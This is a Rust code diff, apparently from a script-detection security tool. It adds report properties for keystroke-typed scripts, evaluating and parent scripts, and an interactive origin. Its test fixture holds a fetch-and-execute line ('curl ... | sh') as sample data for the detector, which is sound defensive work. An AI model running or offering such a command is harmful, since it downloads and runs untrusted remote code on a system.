@@ -164,6 +164,16 @@ fn properties(
     if capture.flags.mixed_with_data {
         properties.insert("Script_Mixed_With_Data", boolean(true));
     }
+    if capture.flags.keystrokes {
+        properties.insert("Script_From_Keystrokes", boolean(true));
+    }
+    if let Some(by) = &capture.evaluated_by {
+        properties.insert("Script_Evaluated_By", string(&text(by)));
+    }
+    if let Some(parent) = &capture.parent {
+        // The finding that the parent has, or would have if it was malicious.
+        properties.insert("Script_Parent", string(&finding_id(&node.boot_id, parent)));
+    }
     if std::str::from_utf8(&capture.content).is_err() {
         // The hash is of the bytes as they ran; the contents show replacement characters.
         properties.insert("Script_Not_UTF8", boolean(true));
@@ -212,6 +222,7 @@ fn describe(capture: &Capture, verdict: &Verdict, node: &Node) -> String {
         Origin::Stdin => "from standard input",
         Origin::Sourced => "sourced from a file",
         Origin::Eval => "as an evaluated string",
+        Origin::Interactive => "typed at a terminal",
     };
     let interpreter = text(&capture.interpreter.path);
     let names: Vec<&str> = verdict.techniques.iter().map(|i| LABELS[*i].name).collect();
@@ -279,6 +290,8 @@ mod tests {
         let mut capture = Capture {
             id: ScriptId { pid: 10, exec_ns: 20, ordinal: 0 },
             origin: Origin::File,
+            parent: None,
+            evaluated_by: None,
             content: b"curl http://192.0.2.1/x | sh\n".to_vec(),
             size: 29,
             flags: ScriptFlags::default(),
